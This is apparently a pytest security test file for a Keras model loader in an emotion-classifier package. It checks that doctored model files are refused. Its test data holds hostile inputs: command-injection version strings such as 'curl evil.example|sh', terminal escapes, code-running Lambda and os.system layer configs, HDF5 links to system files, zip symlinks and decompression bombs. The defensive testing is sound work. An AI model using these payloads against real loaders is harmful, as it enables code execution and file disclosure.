"""Model files of strangers: real ones, doctored. Each cause has its own words and no command."""

import io
import json
import os
import re
import stat
import zipfile

import h5py
import keras
import numpy as np
import pytest

from emoclf.images import ModelInfo
from emoclf.models import build_cnn
from emoclf.models.model_file import load_info, load_model, save_model
from emoclf.models.pretrained import PretrainedWeightsError, load_weights_file

from .model_files import exchange, find_layer, spoil

INFO = ModelInfo(("Sad", "Happy"), (16, 32), "crop")
EVIL_VERSIONS = (
    "3.15.1 --index-url http://evil.example",
    "3.15.1\n$(touch owned)",
    "3.15.1;curl evil.example|sh",
    "\x1b[2J\x1b]0;owned\x07",
    "3.15.1 \x9b2J",
    "@ http://evil.example/keras.whl",
    "2.0",
    "3.12.0",
    "999.0",
    "999.0 --pre",
    ["3.15.1"],
    {"a": 1},
    None,
    7,
    "9" * 5000,
)


@pytest.fixture(scope="module")
def good(tmp_path_factory):
    folder = tmp_path_factory.mktemp("good")
    return save_model(build_cnn((16, 32), filters=(4, 4)), folder / "good.keras", info=INFO)


def refuse(path):
    """Load a file that is to be refused; return the message, which is one clean line."""
    with pytest.raises(ValueError) as caught:
        load_model(path)
    assert type(caught.value) is ValueError
    message = str(caught.value)
    assert path.name in message
    assert message.isprintable()
    assert len(message) < 1000
    return message


@pytest.mark.parametrize("version", EVIL_VERSIONS)
def test_no_word_of_a_file_gets_into_a_command(good, tmp_path, version):
    """The attack: a file that Keras refuses, and whose version is what we would tell to install."""

    def break_layer(config):
        find_layer(config, "Conv2D")["config"]["no_such_option"] = 1
        return config

    path = exchange(
        good,
        tmp_path / "evil.keras",
        config_json=break_layer,
        metadata_json=lambda _: {"keras_version": version},
    )
    message = refuse(path)
    assert "evil.example" not in message
    assert "no_such_option" in message
    for command in message.split("pip install ")[1:]:
        assert command == "--upgrade keras"
    assert ("pip install" in message) == (version == "999.0")
    assert ("older" in message) == (version == "999.0")
    assert ("newer" in message) == (version in ("2.0", "3.12.0"))


def test_without_metadata_the_same_holds(good, tmp_path):
    def break_layer(config):
        find_layer(config, "Conv2D")["config"]["no_such_option"] = 1
        return config

    for metadata in (None, b"", b"{", b"[]", b"[" * 50_000):
        path = exchange(
            good, tmp_path / "bare.keras", config_json=break_layer, metadata_json=metadata
        )
        message = refuse(path)
        assert "no_such_option" in message
        assert "pip" not in message


def change_layer(**changes):
    """Return a function that changes the first convolution of a network's description."""

    def change(config):
        find_layer(config, "Conv2D").update(changes)
        return config

    return change


def set_option(**options):
    def change(config):
        find_layer(config, "Conv2D")["config"].update(options)
        return config

    return change


def set_outputs(count):
    def change(config):
        find_layer(config, "Dense")["config"]["units"] = count
        return config

    return change


LAMBDA = {"class_name": "__lambda__", "config": {"value": ["4wAAAA==", None, None]}}
REFUSED_LAYERS = {
    "lambda layer": (
        change_layer(class_name="Lambda", config={"name": "x", "function": LAMBDA}),
        "runs code",
    ),
    "lambda activation": (set_option(activation=LAMBDA), "runs code"),
    "saved model from elsewhere": (
        change_layer(class_name="TFSMLayer", config={"filepath": "/etc"}),
        "runs code",
    ),
    "os.system": (
        change_layer(module="os", class_name="system", registered_name=None),
        "no part of networks in Keras",
    ),
    "os.system as a function": (
        set_option(
            activation={
                "module": "os",
                "class_name": "function",
                "config": "system",
                "registered_name": "system",
            }
        ),
        "no part of networks in Keras",
    ),
    "a function that fetches": (
        set_option(
            activation={
                "module": "keras.utils",
                "class_name": "function",
                "config": "get_file",
                "registered_name": "get_file",
            }
        ),
        "no part of networks in Keras",
    ),
    "a class of its author": (
        change_layer(module=None, class_name="Mine", registered_name="mine>Mine"),
        "register it first",
    ),
    "escapes in a name": (
        change_layer(module="\x1b[2J", class_name="\x1b]0;owned\x07" + "x" * 5000),
        "no part of networks in Keras",
    ),
    "a name that is a list": (change_layer(class_name=["Conv2D"]), "no name"),
    "a class that Keras does not have": (change_layer(class_name="Conv9D"), "cannot be built"),
    "a module that is a list": (change_layer(module=["keras"]), "no part of networks in Keras"),
    "a wrong number": (set_option(filters=-3), "cannot be built"),
    "a number that is text": (set_option(filters="many"), "cannot be built"),
    "a billion outputs": (set_outputs(10**9), r"describes \d[\d,]+ weights"),
    "more outputs than numbers": (set_outputs(10**30), "(describes|cannot be built)"),
    "fewer outputs": (set_outputs(1), "do not fit"),
    "thousands of layers": (
        lambda config: {
            **config,
            "config": {**config["config"], "layers": config["config"]["layers"][:1] * 3000},
        },
        "more than 2,000 layers",
    ),
    "another size": (
        set_option(filters=5),
        "(cannot be built|do not fit)",
    ),
    "no network": (
        lambda _: {"module": "keras.layers", "class_name": "Dense", "config": {"units": 2}},
        "no network",
    ),
    "an empty description": (lambda _: {}, "(no network|cannot be built)"),
}


@pytest.mark.parametrize("name", REFUSED_LAYERS)
def test_refused_layers_are_told_apart_from_versions(good, tmp_path, name):
    change, match = REFUSED_LAYERS[name]
    path = exchange(good, tmp_path / "evil.keras", config_json=change)
    message = refuse(path)
    assert re.search(match, message)
    assert "pip" not in message


def test_a_layer_that_this_program_has_registered_is_loaded(tmp_path):
    @keras.saving.register_keras_serializable("test_model_files")
    class Same(keras.layers.Layer):
        def call(self, values):
            return values

    photo = keras.Input((16, 32, 3), dtype="uint8")
    values = keras.layers.GlobalAveragePooling2D()(keras.layers.Rescaling(1 / 255)(photo))
    answer = keras.layers.Dense(2, activation="softmax")(Same()(values))
    path = save_model(keras.Model(photo, answer), tmp_path / "own.keras", info=INFO)
    assert load_model(path)[1] == INFO


DAMAGES = {
    "no layers": {"config_json": None},
    "layers that are no JSON": {"config_json": b"\xff\xfe{"},
    "layers nested too deeply": {"config_json": "[" * 100_000 + "]" * 100_000},
    "layers that are a list": {"config_json": "[]"},
    "a bomb of layers": {"config_json": " " * (9 << 20) + "{}"},
    "no weights": {"model_weights_h5": None},
    "no bytes of weights": {"model_weights_h5": b""},
    "weights that are none": {"model_weights_h5": b"\x89HDF\r\n\x1a\n" + bytes(500)},
}


@pytest.mark.parametrize("name", DAMAGES)
def test_damaged_files_are_refused(good, tmp_path, name):
    message = refuse(exchange(good, tmp_path / "bad.keras", **DAMAGES[name]))
    assert "pip" not in message


def write_weights(fill):
    content = io.BytesIO()
    with h5py.File(content, "w") as file:
        fill(file)
    return content.getvalue()


def make_bomb(file):
    file.create_dataset("vars/0", (60_000, 60_000), "f4", chunks=(1000, 1000), compression="gzip")


def make_external(file):
    file.create_dataset("0", (4,), "u1", external=[("/etc/hostname", 0, 4)])


def make_circle(file):
    file.create_group("a")["b"] = file["/"]


@pytest.mark.parametrize(
    ("fill", "match"),
    [
        (make_bomb, "bomb"),
        (make_external, "other files"),
        (make_circle, "circles"),
        (lambda file: file.__setitem__("a", h5py.ExternalLink("/x.h5", "/")), "links"),
        (lambda file: file.__setitem__("a", h5py.SoftLink("/")), "links"),
        (lambda _: None, "do not fit"),
    ],
)
def test_weights_that_lead_elsewhere_are_refused(good, tmp_path, fill, match):
    path = exchange(good, tmp_path / "bad.keras", model_weights_h5=write_weights(fill))
    assert match in refuse(path)


def flip(content, seed):
    damaged = bytearray(content)
    generator = np.random.default_rng(seed)
    for place in generator.integers(0, len(damaged), 8):
        damaged[place] = generator.integers(0, 256)
    return bytes(damaged)


def test_changed_bytes_are_an_error_line_or_harmless(good, tmp_path):
    content = good.read_bytes()
    tail = len(content) - 1500  # the list of members, and what stands before it
    for seed in range(30):
        damaged = content[:tail] + flip(content[tail:], seed)
        path = tmp_path / "flipped.keras"
        path.write_bytes(damaged)
        try:
            load_info(path)
            load_model(path)
        except ValueError as error:
            assert "flipped.keras" in str(error)


def write_zip(path, members):
    with zipfile.ZipFile(path, "w") as archive:
        for name, content, change in members:
            info = zipfile.ZipInfo(name)
            change(info)
            archive.writestr(info, content)
    return path


def deflate(info):
    info.compress_type = zipfile.ZIP_DEFLATED


def link(info):
    info.external_attr = (stat.S_IFLNK | 0o777) << 16


def leave(info):
    pass


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize(
    ("members", "match"),
    [
        ([("emoclf.json", b" " * (200 << 10), leave)], "bytes, more than"),
        ([("emoclf.json", b" " * (40 << 20), deflate)], "bomb"),
        ([("emoclf.json", b"{}", leave), ("emoclf.json", b"{}", leave)], "twice"),
        ([("emoclf.json", b"/etc/passwd", link)], "link or a device"),
        ([(f"assets/{number}", b"", leave) for number in range(2000)], "more than 1,000 entries"),
        ([("other.json", b"{}", leave)], "does not say which classes"),
    ],
)
def test_archives_that_nobody_saves_are_refused(tmp_path, members, match):
    path = write_zip(tmp_path / "bad.keras", members)
    with pytest.raises(ValueError, match=match):
        load_info(path)
    assert match in refuse(path)


def test_an_encrypted_member_is_refused(good, tmp_path):
    content = bytearray(good.read_bytes())
    place = content.rindex(b"PK\x01\x02")  # of emoclf.json, in the list
    content[place + 8] |= 1
    path = tmp_path / "locked.keras"
    path.write_bytes(content)
    assert "encrypted" in refuse(path)


def test_what_a_model_says_of_itself_is_checked(good, tmp_path):
    """Each value of each wrong kind, each key left out: fine, or one line that names the file."""
    with zipfile.ZipFile(good) as archive:
        described = json.loads(archive.read("emoclf.json"))
    path, refused, tried = tmp_path / "odd.keras", 0, 0
    for text in spoil(described):
        tried += 1
        write_zip(path, [("emoclf.json", text.encode(), leave)])
        try:
            info = load_info(path)
        except ValueError as error:
            refused += 1
            assert "odd.keras" in str(error)
            assert str(error).isprintable()
            assert len(str(error)) < 700
        else:
            assert all(isinstance(name, str) for name in info.class_names)
            assert info.resize_mode in ("pad", "crop")
            assert info.crop in ("none", "face")
    assert tried > 100
    assert refused > 0.8 * tried


def test_what_is_no_file_is_refused_at_once(tmp_path):
    folder, pipe = tmp_path / "folder.keras", tmp_path / "pipe.keras"
    folder.mkdir()
    os.mkfifo(pipe)
    for path, kind in ((folder, "a folder"), (pipe, "a named pipe"), ("/dev/zero", "a device")):
        for load in (load_info, load_model):
            with pytest.raises(ValueError, match=kind):
                load(path)


@pytest.fixture(scope="module")
def backbone():
    photo = keras.Input((8, 8, 3))
    return keras.Model(photo, keras.layers.Conv2D(2, 3, name="maps")(photo), name="backbone")


def test_files_of_weights_are_examined_too(backbone, tmp_path):
    path = tmp_path / "good.weights.h5"
    backbone.save_weights(path)
    load_weights_file(backbone, path, name="small")
    content = path.read_bytes()
    for seed in range(20):
        path.write_bytes(flip(content, seed))
        try:
            load_weights_file(backbone, path, name="small")
        except PretrainedWeightsError as error:
            assert "good.weights.h5" in str(error)
    bad = tmp_path / "bad.weights.h5"
    for fill in (make_bomb, make_external, make_circle):
        bad.write_bytes(write_weights(fill))
        with pytest.raises(PretrainedWeightsError, match="weights"):
            load_weights_file(backbone, bad, name="small")


def test_files_of_weights_are_files(backbone, good, tmp_path):
    folder, pipe = tmp_path / "folder.h5", tmp_path / "pipe.weights.h5"
    folder.mkdir()
    os.mkfifo(pipe)
    for path in (folder, pipe, tmp_path / "none.keras", "/dev/zero"):
        with pytest.raises(PretrainedWeightsError):
            load_weights_file(backbone, path, name="small")
    evil = exchange(good, tmp_path / "evil.keras", config_json=set_option(activation=LAMBDA))
    with pytest.raises(PretrainedWeightsError, match="runs code"):
        load_weights_file(backbone, evil, name="small")
